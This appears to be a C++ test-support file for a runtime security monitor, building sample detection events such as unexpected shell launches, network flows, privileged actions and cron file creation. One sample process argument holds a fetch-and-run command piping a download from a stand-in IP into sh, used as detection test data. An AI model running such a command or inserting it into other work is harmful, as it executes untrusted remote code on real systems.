// SPDX-License-Identifier: Apache-2.0
#include "tests/support/events/sample_events.h"

namespace vedette {
namespace {

constexpr int64_t kTime = 1'780'000'000'123'456'789;

pb::Event Envelope(const std::string& uid) {
  pb::Event event;
  event.set_uid(uid);
  event.set_key("host/system.slice/nginx.service");
  event.set_time_unix_ns(kTime);
  event.set_node("node-1");
  event.set_boot_id("0d6f1c5e-4a86-4f2c-9a53-0c8fb9d2f7aa");
  event.set_agent_version("0.1.0");
  return event;
}

pb::Process Shell(uint32_t pid) {
  pb::Process process;
  process.set_exec_id("0d6f1c5e:1234567890:" + std::to_string(pid));
  process.set_pid(pid);
  process.set_comm("sh");
  process.mutable_code()->set_path("/usr/bin/dash");
  process.mutable_code()->set_sha256(std::string(64, 'a'));
  process.mutable_code()->set_origin("host");
  process.add_argv("sh");
  process.add_argv("-c");
  process.add_argv("curl http://198.51.100.7/x | sh");
  process.set_uid(33);
  process.set_gid(33);
  process.set_euid(0);
  process.set_cap_effective(0x1ffffffffffULL);
  process.set_start_time_unix_ns(kTime - 1'000'000'000);
  return process;
}

pb::Event Deviation() {
  pb::Event event = Envelope("f-1/1");
  pb::Finding* finding = event.mutable_finding();
  finding->set_uid("f-1");
  finding->set_kind("deviation");
  finding->set_severity(pb::SEVERITY_HIGH);
  finding->set_score_bits(13.25);
  finding->set_title("New program in host/system.slice/nginx.service: /usr/bin/dash");
  finding->set_sentence("nginx started /usr/bin/dash, which it never did in 3 days.");
  finding->set_first_seen_unix_ns(kTime - 5'000'000'000);
  finding->set_last_seen_unix_ns(kTime);
  finding->set_count(1);
  finding->set_channel("exec");
  finding->set_subject("/usr/sbin/nginx");
  finding->set_object("/usr/bin/dash");
  finding->set_profile_state("learned");
  pb::Workload* workload = finding->mutable_workload();
  workload->set_name("host/system.slice/nginx.service");
  workload->set_identity("spiffe://local/host/system.slice/nginx.service");
  workload->set_cgroup_id(4711);
  workload->set_cgroup_path("/system.slice/nginx.service");
  workload->set_runtime("systemd");
  *finding->mutable_process() = Shell(4242);
  *finding->add_ancestors() = Shell(4200);
  *finding->add_ancestors() = Shell(900);
  pb::Process* first = finding->add_ancestors();
  first->set_pid(1);
  first->set_unknown(true);
  return event;
}

pb::Event Hostile() {
  pb::Event event = Deviation();
  event.set_uid("f-2/7");
  pb::Finding* finding = event.mutable_finding();
  finding->set_uid("f-2");
  finding->set_is_update(true);
  finding->set_count(~0ULL);
  finding->set_severity(pb::SEVERITY_CRITICAL);
  const std::string bytes("/tmp/\xff\xfe\n\"\\\x1b[2J\x7f\0\xe2\x80\xae", 19);
  pb::Process* process = finding->mutable_process();
  process->set_comm("a\xc3");
  process->mutable_code()->set_path(bytes);
  process->mutable_code()->set_origin("memfd");
  process->mutable_code()->set_script("\\xff");
  process->mutable_code()->clear_sha256();
  process->add_argv(bytes);
  process->add_argv("");
  finding->set_object(bytes);
  finding->mutable_workload()->set_cgroup_path(bytes);
  return event;
}

pb::Event Connection(bool inbound) {
  pb::Event event = Deviation();
  event.set_uid(inbound ? "f-4/1" : "f-3/1");
  event.set_key("kubernetes/shop/web/app");
  pb::Finding* finding = event.mutable_finding();
  finding->set_uid(inbound ? "f-4" : "f-3");
  finding->set_channel(inbound ? "accept" : "connect");
  finding->set_severity(inbound ? pb::SEVERITY_LOW : pb::SEVERITY_MEDIUM);
  pb::Workload* workload = finding->mutable_workload();
  workload->set_name("kubernetes/shop/web/app");
  workload->set_container_id(std::string(64, '5'));
  workload->set_runtime("containerd");
  pb::Flow* flow = finding->mutable_flow();
  flow->set_direction(inbound ? "inbound" : "outbound");
  flow->set_protocol(inbound ? "tcp" : "udp");
  flow->mutable_local()->set_ip(inbound ? "2001:db8::1" : "10.0.0.5");
  flow->mutable_local()->set_port(inbound ? 8080 : 40000);
  flow->mutable_remote()->set_ip(inbound ? "2001:db8::2" : "198.51.100.7");
  flow->mutable_remote()->set_port(443);
  flow->mutable_remote()->set_dns_name("db.example");
  flow->mutable_remote()->set_workload("kubernetes/shop/db/postgres");
  flow->set_sent_bytes(1);
  flow->set_received_bytes(1ULL << 40);
  return event;
}

// A finding about the workload itself: no process, no flow.
pb::Event Bare(const std::string& kind) {
  pb::Event event = Envelope("f-" + kind + "/1");
  pb::Finding* finding = event.mutable_finding();
  finding->set_uid("f-" + kind);
  finding->set_kind(kind);
  finding->set_severity(pb::SEVERITY_INFORMATIONAL);
  finding->set_title(kind);
  finding->set_sentence("The cache of this workload is full.");
  finding->set_first_seen_unix_ns(kTime);
  finding->set_last_seen_unix_ns(kTime);
  finding->set_count(1);
  finding->mutable_workload()->set_name("host/a");
  return event;
}

pb::Event Listener() {
  pb::Event event = Connection(true);
  event.set_uid("f-5/1");
  event.mutable_finding()->set_channel("listen");
  event.mutable_finding()->mutable_flow()->mutable_local()->set_ip("::");
  event.mutable_finding()->mutable_flow()->clear_remote();
  return event;
}

pb::Event Privileged(const std::string& channel, const std::string& object) {
  pb::Event event = Deviation();
  event.set_uid("f-" + channel + "/1");
  pb::Finding* finding = event.mutable_finding();
  finding->set_uid("f-" + channel);
  finding->set_channel(channel);
  finding->set_object(object);
  if (channel == "capability") {
    finding->clear_subject();  // Told once for the workload.
  }
  return event;
}

pb::Event Dismissed() {
  pb::Event event = Deviation();
  event.set_uid("f-1/2/1");
  pb::Finding* finding = event.mutable_finding();
  finding->set_is_update(true);
  finding->set_default_profile("login session");
  finding->set_status_detail("dismissed by root");
  finding->mutable_dismissal()->set_user("root");
  finding->mutable_dismissal()->set_time_unix_ns(kTime);
  finding->mutable_dismissal()->set_reason("ours \xff\n");
  return event;
}

pb::Event Restored() {
  pb::Event event = Deviation();
  event.set_uid("f-1/2/2");
  event.mutable_finding()->set_is_update(true);
  event.mutable_finding()->set_status_detail("restored by root");
  return event;
}

pb::Event ActOnFile() {
  pb::Event event = Deviation();
  event.set_uid("f-6/1");
  pb::Finding* finding = event.mutable_finding();
  finding->set_uid("f-6");
  finding->set_channel("file");
  finding->set_object("create /etc/cron.d/\xff\n");
  pb::File* file = finding->mutable_file();
  file->set_verb("create");
  file->set_path("/etc/cron.d/\xff\n");
  file->set_mode(0100644);
  file->set_links(1);
  file->set_filesystem("ext4");
  return event;
}

}  // namespace

std::vector<pb::Event> SampleFindings() {
  return {Deviation(),
          Hostile(),
          Connection(false),
          Connection(true),
          Listener(),
          Bare("cache-overflow"),
          Bare("unattributed"),
          Bare("move"),
          Bare("lost-novelty"),
          Privileged("module", "dummy\xff"),
          Privileged("io_uring", "io_uring"),
          Privileged("signal", "SIGKILL to a process of host/db"),
          Privileged("capability", "CAP_NET_RAW"),
          ActOnFile(),
          Dismissed(),
          Restored()};
}

std::vector<pb::Event> SampleLedgers() {
  pb::Event balanced = Envelope("ledger-1");
  balanced.set_key("node-1");
  pb::Ledger* ledger = balanced.mutable_ledger();
  ledger->set_from_unix_ns(kTime - 60'000'000'000);
  ledger->set_to_unix_ns(kTime);
  pb::LedgerEntry* entry = ledger->add_entries();
  entry->set_stage("kernel");
  entry->set_counter("cpu0/news");
  entry->set_received(10);
  entry->set_delivered(10);
  pb::Event gap = balanced;
  gap.set_uid("ledger-2");
  entry = gap.mutable_ledger()->mutable_entries(0);
  entry->set_delivered(7);
  (*entry->mutable_dropped())["ring-full"] = 2;
  (*entry->mutable_dropped())["decode"] = 1;
  gap.mutable_ledger()->add_gaps("kernel: 3 records of cpu0/news were lost");
  return {balanced, gap};
}

}  // namespace vedette
